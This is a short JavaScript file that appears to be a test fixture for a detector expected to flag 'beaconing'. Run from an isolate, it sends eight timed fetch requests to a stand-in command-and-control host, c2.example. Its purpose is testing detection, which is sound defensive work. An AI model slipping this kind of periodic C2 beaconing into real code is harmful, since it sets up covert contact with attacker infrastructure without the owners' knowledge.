// expects: beaconing
// allow: http://*.example:PORT
// The same from an isolate.
export default async () => {
  for (let beat = 0; beat < 8; beat++) {
    await fetch(`http://c2.example:PORT/beat?${beat}`)
    await new Promise((done) => setTimeout(done, 400))
  }
  return 'done'
}
